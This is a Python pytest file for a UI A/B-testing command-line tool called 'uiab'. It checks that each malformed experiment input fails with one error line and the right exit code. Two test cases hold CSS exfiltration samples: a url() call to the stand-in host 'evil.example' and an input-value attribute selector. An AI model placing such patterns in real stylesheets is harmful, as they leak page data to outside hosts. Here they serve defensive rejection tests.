"""Every bad input the suite knows, through the real ``uiab`` command: its exit code, one line, no traceback.

Bad input exits 2 with one line naming the file, the field and the fix; an environment that fails (a site
that does not answer) exits 4. Nothing is left in the database either way.
"""

from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
SHOP = REPO / "site_fixtures" / "shop"
UIAB = str(Path(sys.executable).with_name("uiab"))


@dataclass(frozen=True)
class Case:
    """One bad input: how to break a copy of the shop, the command to run, what must come back."""

    id: str
    argv: tuple[str, ...]
    expect: str  # a fragment of the one stderr line
    code: int = 2
    edit: Callable[[str], str] = lambda text: text
    files: dict[str, str | bytes] = field(default_factory=dict)  # written next to experiment.toml
    env: dict[str, str] = field(default_factory=dict)
    cwd_files: dict[str, str] = field(default_factory=dict)  # written in the working directory
    takes_db: bool = True  # `uiab patch check` writes nothing and has no --db


def _replace(old: str, new: str) -> Callable[[str], str]:
    def edit(text: str) -> str:
        assert old in text, old  # the case would test nothing if the shop changed under it
        return text.replace(old, new)
    return edit


CASES = [
    Case("funnel selector matches nothing", ("smoke", "{exp}", "--device", "iPhone 13"), "funnel[2].next",
         edit=_replace('next = "#checkout"', 'next = "#no-such-button"')),
    Case("unknown persona", ("smoke", "{exp}"), "low-vision-seniors",
         edit=_replace('"low-vision-senior"', '"low-vision-seniors"')),
    Case("missing site folder", ("smoke", "{exp}"), "site", edit=_replace('site = "."', 'site = "nowhere"')),
    Case("unreachable base_url", ("smoke", "{exp}"), "unreachable", code=4,
         edit=_replace('site = "."', 'base_url = "http://127.0.0.1:9"')),
    Case("patch with url()", ("smoke", "{exp}"), "url",
         edit=lambda t: t + '\n[[variants]]\nname = "evil"\npatch = "variants/evil.css"\n',
         files={"variants/evil.css": "#add-to-cart { background: url(https://evil.example/?leak) }\n"}),
    Case("malformed TOML", ("smoke", "{exp}"), "malformed TOML", edit=_replace("[slots]", "[slots\n")),
    Case("experiment.toml in UTF-16", ("simulate", "{exp}", "--sessions", "1"), "UTF-8",
         files={"experiment.toml": "name = 'x'\n".encode("utf-16")}),
    Case("missing experiment file", ("simulate", "{dir}/nope.toml"), "no such file"),
    Case("unknown key", ("smoke", "{exp}"), "nonsense", edit=lambda t: "nonsense = 1\n" + t),
    Case("no personas", ("smoke", "{exp}"), "personas",
         edit=_replace('personas = ["hurried-mobile-shopper", "careful-desktop-researcher", "low-vision-senior"]',
                       "personas = []")),
    Case("base_url not http", ("smoke", "{exp}"), "base_url", edit=_replace('site = "."', 'base_url = "ftp://x"')),
    Case("missing patch file", ("smoke", "{exp}"), "variants.gone.patch",
         edit=lambda t: t + '\n[[variants]]\nname = "gone"\npatch = "variants/gone.css"\n'),
    Case("goal without a trigger", ("smoke", "{exp}"), "goals.signup", edit=lambda t: t + "\n[goals.signup]\n"),
    Case("unknown slot kind", ("smoke", "{exp}"), "unknown slot kind",
         edit=_replace('buy_box = "#buy-box"', 'buy_box = { selector = "#buy-box", kind = "widget" }')),
    Case("unknown device", ("smoke", "{exp}", "--device", "iPhone 99"), "unknown device 'iPhone 99'"),
    Case("invalid patch CSS", ("patch", "check", "{dir}/evil.css"), "line 2",
         files={"evil.css": "#a { color: red }\ninput[value^='a'] { color: blue }\n"}, takes_db=False),
    Case("patch selector matches no page", ("patch", "check", "{dir}/typo.css", "--experiment", "{exp}"),
         "#add-to-kart matched nothing", files={"typo.css": "#add-to-kart { font-size: 20px }\n"},
         takes_db=False),
    Case("unknown persona option", ("simulate", "{exp}", "--sessions", "2", "--persona", "nobody"), "nobody"),
    Case("unknown policy", ("train", "{exp}", "--sessions", "1", "--policy", "magic"), "--policy"),
    Case("missing checkpoint", ("train", "{exp}", "--sessions", "1", "--resume", "{dir}/nope.pt"), "nope.pt"),
    Case("unknown candidate", ("rollout", "{exp}", "--candidate", "no-such-variant"), "--candidate"),
    Case("stages not numbers", ("rollout", "{exp}", "--candidate", "big-cta", "--stages", "ten"), "--stages"),
    Case("rollout on an unreachable site", ("rollout", "{exp}", "--candidate", "big-cta"), "unreachable", code=4,
         edit=_replace('site = "."', 'base_url = "http://127.0.0.1:9"')),
    Case("report of a missing database", ("report", "999", "--db", "{dir}/none.db"), "no database at"),
    Case("concurrency out of range", ("simulate", "{exp}", "--sessions", "1"), "concurrency",
         env={"UIAB_CONCURRENCY": "0"}),
    Case("malformed uiab.toml", ("simulate", "{exp}", "--sessions", "1"), "uiab.toml",
         cwd_files={"uiab.toml": "concurrency = [\n"}),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_is_one_line_and_an_exit_code(tmp_path: Path, case: Case) -> None:
    site = tmp_path / "shop"
    shutil.copytree(SHOP, site)
    experiment = site / "experiment.toml"
    experiment.write_text(case.edit(experiment.read_text(encoding="utf-8")), encoding="utf-8")
    for name, content in case.files.items():
        target = site / name
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8")
    work = tmp_path / "work"
    work.mkdir()
    for name, content in case.cwd_files.items():
        (work / name).write_text(content, encoding="utf-8")
    db = tmp_path / "uiab.db"
    argv = [a.format(exp=experiment, dir=site) for a in case.argv]
    if case.takes_db and "--db" not in argv:
        argv += ["--db", str(db)]
    env = {**os.environ, "UIAB_REPORT_DIR": str(tmp_path / "reports"), **case.env}
    done = subprocess.run([UIAB, *argv], cwd=work, env=env, capture_output=True, text=True, timeout=300,
                          check=False, stdin=subprocess.DEVNULL)
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert "Traceback" not in done.stderr + done.stdout, done.stderr
    assert done.returncode == case.code, done.stderr
    assert len(lines) == 1, done.stderr
    assert case.expect in lines[0], lines[0]
    if case.code == 2:
        assert "fix:" in lines[0], lines[0]
    if db.exists():
        with sqlite3.connect(db) as con:
            tables = {row[0] for row in con.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
            if "runs" in tables:
                assert con.execute("SELECT COUNT(*) FROM runs").fetchone()[0] == 0
                assert con.execute("SELECT COUNT(*) FROM sessions").fetchone()[0] == 0
